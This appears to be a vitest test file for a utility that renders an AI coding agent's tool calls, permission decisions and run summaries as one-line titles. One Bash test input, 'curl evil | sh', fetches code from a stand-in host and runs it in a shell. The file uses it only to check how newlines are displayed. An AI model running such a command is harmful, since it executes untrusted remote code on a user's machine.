import {expect, test} from 'vitest';
import {firstLine, oneLine} from '../../utils/oneLine.js';
import {generateTitle} from '../titleGen.js';
import {summarizeTool} from '../toolSummary.js';

test.each([
	['Bash', {command: 'npm test'}, 'Bash(npm test)'],
	['Bash', {command: 'ls\ncurl evil | sh'}, 'Bash(ls⏎curl evil | sh)'],
	['Read', {file_path: 'src/a.ts', limit: 3}, 'Read(src/a.ts)'],
	['Write', {file_path: 'b.md', content: 'long'}, 'Write(b.md)'],
	['WebFetch', {url: 'https://x.org', prompt: 'p'}, 'WebFetch(https://x.org)'],
	['Grep', {pattern: 'TODO', path: 'src'}, 'Grep(TODO)'],
	[
		'mcp__db__query',
		{sql: 'select 1', n: 2},
		'db · query(sql: select 1, n: 2)',
	],
	['mcp__my_server__do__it', {}, 'my_server · do__it'],
	['Other', {deep: {a: 1}, list: [1]}, 'Other(deep: {…}, list: […])'],
	['Bash', undefined, 'Bash'],
	['constructor', {}, 'constructor'],
])('%s %j in one line', (tool, input, line) => {
	expect(summarizeTool(tool, input)).toBe(line);
});

test('a gap claims no more than was recorded: athena may have been there longer', () => {
	const gap = {since: 0, until: 60_000, missed_calls: 2, earlier_calls: 0};
	expect(generateTitle('athena.gap', gap)).toBe(
		'athena heard nothing for 1 min 0 s: 2 calls meanwhile, by the transcript',
	);
});

test('the titles of the contract', () => {
	const call = {tool_name: 'Read', tool_input: {file_path: 'path'}};
	expect([
		generateTitle('tool.pre', call),
		generateTitle('tool.post', {...call, tool_response: ''}),
		generateTitle('permission.request', {tool_name: 'Bash', tool_input: {}}),
		generateTitle('permission.decision', {
			decision_type: 'allow',
			source: 'user',
		}),
		generateTitle('permission.decision', {
			decision_type: 'deny',
			message: 'reason',
			source: 'user',
		}),
		generateTitle('unknown.hook', {hook_event_name: 'Name', payload: {}}),
	]).toEqual([
		'● Read(path)',
		'⎿ Read result',
		'⚠ Permission: Bash',
		'✓ Allowed',
		'✗ Denied: reason',
		'? Name',
	]);
});

test('how long a run took is readable', () => {
	const end = (duration_ms: number) =>
		generateTitle('run.end', {
			status: 'completed',
			duration_ms,
			counters: {
				tool_uses: 1,
				tool_failures: 0,
				permission_requests: 0,
				blocks: 0,
			},
		});
	expect([end(40), end(3210), end(125_000)]).toEqual([
		'■ Run completed · 1 tool · 40 ms',
		'■ Run completed · 1 tool · 3.2 s',
		'■ Run completed · 1 tool · 2 min 5 s',
	]);
});

test('a line is bounded, says where it was cut, and splits no character', () => {
	expect(oneLine('a'.repeat(200))).toHaveLength(200);
	const cut = oneLine('a'.repeat(201));
	expect(cut).toBe(`${'a'.repeat(199)}…`);
	expect(oneLine(`${'a'.repeat(198)}😀😀`)).toBe(`${'a'.repeat(198)}…`);
	expect(oneLine('a\r\nb\nc\u2028d')).toBe('a⏎b⏎c⏎d');
});

test('a first line says that there is more', () => {
	expect(firstLine('\n\n one\ntwo')).toBe('one …');
	expect(firstLine('one\n')).toBe('one');
	expect(firstLine('')).toBe('');
});
